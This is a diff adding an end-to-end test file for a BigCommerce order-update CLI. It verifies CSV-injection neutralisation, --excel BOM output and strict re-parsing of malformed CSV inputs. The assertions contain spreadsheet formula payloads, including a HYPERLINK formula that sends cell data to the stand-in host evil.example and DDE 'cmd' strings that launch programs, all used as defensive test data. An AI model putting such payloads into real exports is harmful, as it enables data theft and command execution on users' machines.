@@ -1,0 +1,173 @@
+// Issue 5 "Writing results": cells that a spreadsheet would run as formulas are neutralised in the
+// results file (OWASP CSV injection) while BigCommerce gets the real values; --excel adds a BOM; the
+// results file re-parses strictly to exactly one record per input row, however awkward the input.
+import { copyFile, readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import {
+  checkInvariants,
+  parseResults,
+  REPO_ROOT,
+  readResults,
+  runCli,
+  sandboxEnv,
+  startE2eSandbox,
+  tempDir,
+  writeCsv,
+} from "../helpers/cli.js";
+
+const fixture = (name: string): string => join(REPO_ROOT, "test", "fixtures", name);
+
+async function prepare(name: string): Promise<{ dir: string; input: string; results: string }> {
+  const dir = await tempDir("bc-output-safety-");
+  const input = join(dir, name);
+  await copyFile(fixture(name), input);
+  return { dir, input, results: join(dir, name.replace(/\.csv$/, ".results.csv")) };
+}
+
+/** First characters that make Excel, LibreOffice or Sheets evaluate a cell (OWASP CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
+
+/** The formula fixture's cells as written (a plain RFC 4180 file). */
+async function formulaInput(): Promise<{ header: string[]; rows: string[][] }> {
+  const [header, ...rows] = parse(await readFile(fixture("formula-payloads.csv"))) as string[][];
+  return { header: header as string[], rows };
+}
+
+describe("formula payloads, end to end", () => {
+  it("are neutralised in the results file and sent to BigCommerce as written", async () => {
+    const sandbox = await startE2eSandbox();
+    const { input, results } = await prepare("formula-payloads.csv");
+    const run = await runCli([input, "--quiet"], { env: sandboxEnv(sandbox) });
+
+    const file = await readResults(results);
+    // `input` makes checkInvariants compare every input cell with its neutralised form.
+    checkInvariants({
+      inputRows: 3,
+      results: file,
+      sandbox,
+      run,
+      expectCode: 0,
+      input: await formulaInput(),
+    });
+    expect(file.records.map((record) => record.slice(0, 4))).toEqual([
+      [
+        "12345",
+        `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+      ],
+      ["12346", "'-2+3", "'=1+1", "'=cmd|'/c calc'!A1"],
+      ["12347", "'\tTab first", "'\rCR first", "'\uFF1D1+2"],
+    ]);
+    for (const record of file.records) {
+      for (const cell of record) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
+    }
+    // Not UTF-8 with BOM unless asked (--excel).
+    expect((await readFile(results)).subarray(0, 3).equals(BOM)).toBe(false);
+
+    // BigCommerce holds the row's real values, not the neutralised ones.
+    expect(sandbox.store.getOrder(12345)).toMatchObject({
+      staff_notes: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      customer_message: "+cmd|' /C calc'!A0",
+    });
+    expect(sandbox.store.getOrder(12345)?.billing_address.company).toBe("@SUM(1+1)");
+    expect(sandbox.store.getOrder(12346)).toMatchObject({
+      staff_notes: "-2+3",
+      customer_message: "=1+1",
+    });
+    expect(sandbox.store.getOrder(12346)?.billing_address.company).toBe("=cmd|'/c calc'!A1");
+    expect(sandbox.store.getOrder(12347)).toMatchObject({
+      staff_notes: "\tTab first",
+      customer_message: "\rCR first",
+    });
+    expect(sandbox.store.getOrder(12347)?.billing_address.company).toBe("\uFF1D1+2");
+  });
+
+  it("are neutralised on stdout (--output -) too", async () => {
+    const { input } = await prepare("formula-payloads.csv");
+    const run = await runCli(["validate", input, "--output", "-", "--quiet"]);
+    expect(run.code, run.stderr).toBe(0);
+    const file = parseResults(run.stdout);
+    checkInvariants({
+      inputRows: 3,
+      results: file,
+      run,
+      expectCode: 0,
+      input: await formulaInput(),
+    });
+    expect(file.rows[0]?.staff_notes).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+  });
+});
+
+describe("--excel, end to end", () => {
+  it("adds a UTF-8 BOM to the results and failed-rows files; accents read back as written", async () => {
+    const sandbox = await startE2eSandbox();
+    const dir = await tempDir("bc-output-safety-");
+    const header = ["order_id", "billing_first_name", "staff_notes"];
+    const rows = [
+      ["12346", "José", "Entrega 5€"],
+      ["99999", "Zoë", "no such order"],
+    ];
+    const input = await writeCsv(join(dir, "excel.csv"), header, rows);
+    const run = await runCli([input, "--quiet", "--excel"], { env: sandboxEnv(sandbox) });
+
+    const resultsPath = join(dir, "excel.results.csv");
+    const bytes = await readFile(resultsPath);
+    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
+    // Exactly one BOM, then the header.
+    expect(bytes.subarray(3, 11).toString("utf8")).toBe("order_id");
+    const file = await readResults(resultsPath);
+    checkInvariants({
+      inputRows: 2,
+      results: file,
+      sandbox,
+      run,
+      expectCode: 1,
+      input: { header, rows },
+    });
+    expect(file.rows.map((row) => [row.billing_first_name, row.result])).toEqual([
+      ["José", "updated"],
+      ["Zoë", "failed"],
+    ]);
+    expect(sandbox.store.getOrder(12346)?.billing_address.first_name).toBe("José");
+
+    const failedPath = join(dir, "excel.results.failed.csv");
+    expect((await readFile(failedPath)).subarray(0, 3).equals(BOM)).toBe(true);
+    const failed = await readResults(failedPath);
+    expect(failed.header).toEqual(header);
+    expect(failed.records).toEqual([["99999", "Zoë", "no such order"]]);
+  });
+});
+
+describe("the results file re-parses strictly to one record per input row", () => {
+  it.each([
+    { name: "ragged-rows.csv", rows: 4, excel: false },
+    { name: "embedded-newlines.csv", rows: 4, excel: true },
+    { name: "crlf.csv", rows: 3, excel: false },
+    { name: "mixed-line-endings.csv", rows: 4, excel: true },
+    { name: "cr-only.csv", rows: 2, excel: false },
+    { name: "utf16le-tab-export.csv", rows: 3, excel: true },
+    { name: "semicolon-comma-values.csv", rows: 3, excel: false },
+    { name: "relaxed-quotes.csv", rows: 2, excel: true },
+    { name: "excel-trailing-empty-rows.csv", rows: 2, excel: false },
+    { name: "tracking-numbers-as-text.csv", rows: 6, excel: true },
+  ])("$name (excel: $excel)", async ({ name, rows, excel }) => {
+    const { input, results } = await prepare(name);
+    const run = await runCli(["validate", input, "--quiet", ...(excel ? ["--excel"] : [])]);
+    // readResults parses with no relax option: a ragged record or a stray quote throws.
+    const file = await readResults(results);
+    const summary = checkInvariants({ inputRows: rows, results: file, run, expectCode: [0, 1] });
+    for (const record of file.records) expect(record).toHaveLength(file.header.length);
+    const bad = rows - (summary.counts.valid ?? 0);
+    expect(run.code).toBe(bad === 0 ? 0 : 1);
+    if (bad > 0) {
+      const failed = await readResults(results.replace(/\.csv$/, ".failed.csv"));
+      expect(failed.records).toHaveLength(bad);
+      for (const record of failed.records) expect(record).toHaveLength(failed.header.length);
+    }
+  });
+});
